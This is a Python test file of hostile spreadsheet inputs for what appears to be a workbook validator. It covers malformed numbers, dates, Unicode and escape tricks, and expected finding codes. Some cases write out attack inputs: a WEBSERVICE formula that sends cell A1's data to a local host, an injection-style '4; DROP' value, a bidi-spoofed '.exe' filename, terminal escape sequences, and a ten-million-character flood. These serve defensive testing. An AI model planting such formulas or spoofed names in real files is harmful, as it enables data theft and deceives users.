"""Values that look like numbers, dates or labels, and are not; and those that are, written otherwise."""

from __future__ import annotations

import random
import re
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

from pocgate_xl.spreadsheetml.editing.sheet_editor import NewValue
from tests.hostile.case import Case, Make
from tests.hostile.edits import WORKBOOK, Parts, chain, input_xml, on_parts, raw, text, typing
from tests.hostile.submission import ROWS, part_of, typed

ROW = "numbers and text"
RATING = "pg_rating_integration"
COST = "pg_poc_cost_development"
DAY = "pg_engagement_assessment_date"
NOTE = "pg_engagement_industry"
LABEL = "pg_status_security"
IDENTITY = "pg_engagement_organization"
UNREADABLE = ("PG712", "PG113")
CONVERTED = ("PG704", "PG113")
NO_NUMBER = ("PG705",)


def unread(name: str, example: str, value: str, type_: str = "", cell: str = COST) -> Case:
    """A `v` that breaks its type's grammar."""
    return Case(name, ROW, (example,), "findings", UNREADABLE, raw(cell, value, type_), answers={cell: None})


def converted(name: str, example: str, value: str, number: str, cell: str = COST) -> Case:
    """A text that is a number; the workbook's own formulas ignore it."""
    answer = int(number) if cell == RATING else Decimal(number)
    return Case(name, ROW, (example,), "accepted", CONVERTED, text(cell, value), answers={cell: answer})


def no_number(name: str, example: str, value: str, cell: str = COST) -> Case:
    return Case(name, ROW, (example,), "findings", NO_NUMBER, typing({cell: value}), answers={cell: None})


def noted(name: str, example: str, xml: str, says: str, *codes: str, outcome: str = "accepted") -> Case:
    """A text in a note, XML and escapes as given."""
    return Case(name, ROW, (example,), outcome, codes, text(NOTE, xml), answers={NOTE: says})  # type: ignore[arg-type]


def _counting_from_1904(parts: Parts) -> Parts:
    workbook = parts[WORKBOOK].replace(b"<workbookPr", b'<workbookPr date1904="1"', 1)
    return {**parts, WORKBOOK: workbook}


def days_earlier() -> Make:
    """Write every date as a program does that counts from 1904."""
    makes: list[Make] = [on_parts(_counting_from_1904)]
    for sheet in ("start", "dashboard", "scorecard", "checklist", "roadmap", "assumptions", "costs"):
        makes.append(on_parts(lambda parts, sheet=sheet: _shifted(parts, part_of(sheet))))  # type: ignore[misc]
    return chain(*makes)


def _shifted(parts: Parts, part: str) -> Parts:
    def earlier(match: re.Match[bytes]) -> bytes:
        return b"<v>%d</v>" % (int(match[1]) - 1462)

    return {**parts, part: re.sub(rb"<v>(4[67]\d{3})(?:\.0)?</v>", earlier, parts[part])}


def _days_later() -> dict[str, Any]:
    later = timedelta(days=1462)
    days = {name: value + later for name, value in typed().items() if isinstance(value, date)}
    rows = [{**row, "review": row["review"] + later} for row in ROWS["pg_assumptions"]]
    return {**days, "pg_assumptions": rows}


def _many_characters(workbook: bytes) -> bytes:
    return text(NOTE, random.Random(1).randbytes(5_000_000).hex())(workbook)


CASES: tuple[Case, ...] = (
    unread("NaN", "NaN", "NaN"), unread("nan in a rating", "NaN", "nan", cell=RATING),
    unread("INF", "INF", "INF"), unread("-Infinity", "INF", "-Infinity"), unread("1e309", "1e309", "1e309"),
    unread("-1e309", "1e309", "-1e309"), unread("1e99999999", "1e309", "1e99999999"),
    unread("1_000", "1_000", "1_000"), unread("0x1F", "hex", "0x1F"), unread("hex float", "hex", "0x1p4"),
    unread("full-width digits called a number", "full-width digits", "１２３"),
    unread("Arabic digits called a number", "Arabic digits", "١٢٣"),
    unread("Arabic digit as a rating", "Arabic digits", "٤", cell=RATING),
    unread("superscript", "Arabic digits", "4²"), unread("percent called a number", "percent", "15%"),
    unread("thousands called a number", "thousands in other locales", "1,200,000"),
    unread("comma for a point", "thousands in other locales", "1,5"),
    unread("words called a number", "numbers as text", "four"), unread("4; DROP", "numbers as text", "4; DROP"),
    unread("truth that is none", "booleans", "2", "b"),
    Case("date that is none", ROW, ("dates as numbers",), "findings", ("PG712",), raw(DAY, "2026-02-30", "d"),
         answers={DAY: None}),
    Case("very small", ROW, ("1e309",), "accepted", ("PG111",), raw(COST, "1e-400"),
         answers={COST: Decimal(0)}, consequences=True),
    Case("spaces around", ROW, ("NBSP",), "accepted", ("PG140",), make=raw(COST, " 1200000\n")),
    Case("leading zeros and sign", ROW, ("numbers as text",), "accepted", make=raw(COST, "+0001200000.0")),
    Case("exponent", ROW, ("numbers as text",), "accepted", make=raw(COST, "1.2E6")),
    Case("a thousand digits", ROW, ("numbers as text",), "accepted", make=raw(COST, "1200000." + "0" * 1000)),
    Case("40,000 digits", ROW, ("32,768 characters",), "findings", ("PG114", "PG712", "PG113"),
         raw(COST, "1" * 40_000), answers={COST: None}),
    converted("full-width digits", "full-width digits", "１２０００００", "1200000"),
    converted("full-width digit as a rating", "full-width digits", "４", "4", RATING),
    converted("number as text", "numbers as text", "1200000", "1200000"),
    converted("rating as text", "numbers as text", "4", "4", RATING),
    converted("thousands as text", "thousands in other locales", "1,200,000", "1200000"),
    converted("yen sign", "thousands in other locales", "¥1,200,000", "1200000"),
    converted("NBSP around a number", "NBSP", "\u00a01200000\u00a0", "1200000"),
    converted("zero-width marks in a number", "zero-width marks", "1200\u200b000", "1200000"),
    converted("zero-width mark behind a rating", "zero-width marks", "4\u200b", "4", RATING),
    Case("bidi mark before a rating", ROW, ("bidi marks",), "findings", NO_NUMBER, typing({RATING: "\u202e4"}),
         answers={RATING: None}),
    no_number("Arabic digits", "Arabic digits", "١٢٠٠٠٠٠"), no_number("percent", "percent", "15%"),
    no_number("thousands with points", "thousands in other locales", "1.200.000"),
    converted("thousands with spaces", "thousands in other locales", "1 200 000", "1200000"),
    converted("thousands with thin spaces", "thousands in other locales", "1\u2009200\u2009000", "1200000"),
    converted("thousands with NBSP", "NBSP", "1\u00a0200\u00a0000", "1200000"),
    converted("thousands with apostrophes", "thousands in other locales", "1'200'000", "1200000"),
    converted("code of the currency", "thousands in other locales", "JPY 1,200,000", "1200000"),
    no_number("code of another currency", "thousands in other locales", "USD 1,200,000"),
    no_number("lakh", "thousands in other locales", "12,00,000"),
    no_number("1.234", "thousands in other locales", "1.234"), no_number("1,5", "thousands in other locales", "1,5"),
    no_number("1_000 as text", "1_000", "1_000"), no_number("hex as text", "hex", "0x1F"),
    no_number("NaN as text", "NaN", "NaN"), no_number("INF as text", "INF", "inf"),
    no_number("1e309 as text", "1e309", "1e309"), no_number("4e0", "numbers as text", "4e0"),
    no_number("million in words", "numbers as text", "1.2M"), no_number("10²", "full-width digits", "10²"),
    no_number("dollars in a yen workbook", "thousands in other locales", "$1,200"),
    no_number("two numbers", "numbers as text", "3-4", RATING),
    Case("TRUE as a cost", ROW, ("booleans",), "findings", ("PG711",), typing({COST: True}),
         answers={COST: None}),
    Case("TRUE as a rating", ROW, ("booleans",), "findings", ("PG711",), typing({RATING: True}),
         answers={RATING: None}),
    Case("TRUE as a date", ROW, ("booleans",), "findings", ("PG711",), typing({DAY: True}),
         answers={DAY: None}),
    Case("TRUE as a label", ROW, ("booleans",), "findings", ("PG701",), typing({LABEL: True}),
         answers={LABEL: None}),
    Case("rating of 6", ROW, ("numbers as text",), "findings", ("PG201",), typing({RATING: 6}),
         answers={RATING: None}),
    Case("rating of 0", ROW, ("numbers as text",), "findings", ("PG201",), typing({RATING: 0}),
         answers={RATING: None}),
    Case("rating of 4.5", ROW, ("numbers as text",), "findings", ("PG201",), typing({RATING: 4.5}),
         answers={RATING: None}),
    Case("rating of 4.0000000001", ROW, ("numbers as text",), "findings", ("PG201",),
         typing({RATING: 4.0000000001}), answers={RATING: None}),
    Case("negative cost", ROW, ("numbers as text",), "findings", ("PG401",), typing({COST: -1}),
         answers={COST: None}),
    Case("date as a number in a rating", ROW, ("dates as numbers",), "findings", ("PG201",),
         typing({RATING: 46295}), answers={RATING: None}),
    Case("ISO date cell", ROW, ("dates as numbers",), "accepted", make=raw(DAY, "2026-09-30", "d")),
    Case("ISO date and time", ROW, ("dates as numbers",), "accepted", ("PG140",),
         make=raw(DAY, "2026-09-30T00:00:00Z", "d")),
    Case("date with a time of day", ROW, ("dates as numbers",), "accepted", make=raw(DAY, "46295.75")),
    Case("date beyond the calendar", ROW, ("dates as numbers",), "findings", ("PG707", "PG130"),
         raw(DAY, "2958466"), answers={DAY: None}),
    Case("date before the calendar", ROW, ("dates as numbers",), "findings", ("PG707", "PG130"),
         raw(DAY, "-1"), answers={DAY: None}),
    Case("date as a text of its serial", ROW, ("dates as numbers",), "findings", ("PG707", "PG130"),
         text(DAY, "46295"), answers={DAY: None}),
    Case("serial 60", ROW, ("serial 60",), "findings", ("PG707", "PG130"), raw(DAY, "60"),
         answers={DAY: None}),
    Case("29 February 1900 as an ISO date", ROW, ("serial 60",), "findings", ("PG712",),
         raw(DAY, "1900-02-29", "d"), answers={DAY: None}),
    Case("1904 system", ROW, ("1904 system",), "accepted", make=days_earlier()),
    Case("1904 system with ISO dates", ROW, ("1904 system",), "accepted",
         make=chain(days_earlier(), raw(DAY, "2026-09-30", "d"))),
    Case("1904 system switched on by hand", ROW, ("1904 system",), "accepted", ("PG130",),
         make=on_parts(_counting_from_1904), answers=_days_later()),
    noted("escape sequence in an escape", "_x001B_ escapes", "_x001B_[2Jcleared", "[2Jcleared", "PG715"),
    noted("escaped escape", "_x001B_ escapes", "_x005F_x001B_", "_x001B_"),
    noted("escape of half a surrogate", "_x001B_ escapes", "_xD83D_x", "\ufffdx", "PG140"),
    noted("escape of a whole pair", "_x001B_ escapes", "_xD83D__xDE00_", "😀", "PG140"),
    noted("escape of a digit", "_x001B_ escapes", "_x0034_2", "42", "PG140"),
    noted("escape in small letters", "_x001B_ escapes", "_x000a_line", "line"),
    noted("bidi override", "bidi marks", "file\u202exslx.exe", "filexslx.exe", "PG715"),
    noted("bidi isolates", "bidi marks", "\u2066a\u2069", "a", "PG715"),
    noted("zero-width space", "zero-width marks", "a\u200bb", "ab", "PG715"),
    noted("byte order mark inside", "zero-width marks", "\ufeffab", "ab", "PG715"),
    noted("tag characters", "zero-width marks", "a\U000e0041\U000e0042", "a", "PG715"),
    noted("NBSP in a text", "NBSP", "a\u00a0b", "a\u00a0b"),
    noted("C1 control", "control characters", "a\u0085b\u009b2J", "a\nb2J", "PG715"),
    noted("line separators", "control characters", "a\u2028b", "a\nb"),
    noted("delete", "control characters", "a\x7fb", "ab", "PG715"),
    noted("32,767 characters", "32,768 characters", "x" * 32_767, "x" * 32_767),
    Case("32,768 characters", ROW, ("32,768 characters",), "findings", ("PG114", "PG712"),
         text(NOTE, "x" * 32_768),
         answers={NOTE: None}),
    Case("10 million characters", ROW, ("32,768 characters",), "findings", ("PG114", "PG712"),
         _many_characters, answers={NOTE: None}, dangerous=True),
    Case("nothing but invisible characters", ROW, ("zero-width marks",), "accepted", (),
         text(NOTE, "\u200b\u00a0 \u3000"), answers={NOTE: None}),
    Case("label with NBSP", ROW, ("NBSP",), "accepted", ("PG702", "PG113"), text(LABEL, "In\u00a0progress")),
    Case("label with a zero-width space", ROW, ("zero-width marks",), "accepted", ("PG702", "PG113"),
         text(LABEL, "In pro\u200bgress")),
    Case("label in Cyrillic look-alikes", ROW, ("bidi marks",), "findings", ("PG701",),
         typing({LABEL: "Dоne"}), answers={LABEL: None}),
    Case("error value", ROW, ("numbers as text",), "findings", ("PG710", "PG113"), raw(COST, "#DIV/0!", "e"),
         answers={COST: None}),
    Case("formula as an answer", ROW, ("numbers as text",), "accepted", ("PG713",),
         input_xml(COST, "{c}><f>600000*2</f><v>1200000</v></c>")),
    Case("formula without a value", ROW, ("numbers as text",), "findings", ("PG714", "PG113"),
         input_xml(COST, "{c}><f>600000*2</f></c>"), answers={COST: None}),
    Case("formula that calls out", ROW, ("_x001B_ escapes",), "findings", ("PG717",),
         input_xml(NOTE, '{c} t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>ok</v></c>'),
         answers={NOTE: None}),
    Case("organisation of hostile text", ROW, ("control characters",), "findings", ("PG715", "PG142"),
         typing({IDENTITY: NewValue("Aoba\x1b]0;x\x07\u202e")}),
         answers={IDENTITY: "Aoba]0;x"}),
)  # fmt: skip
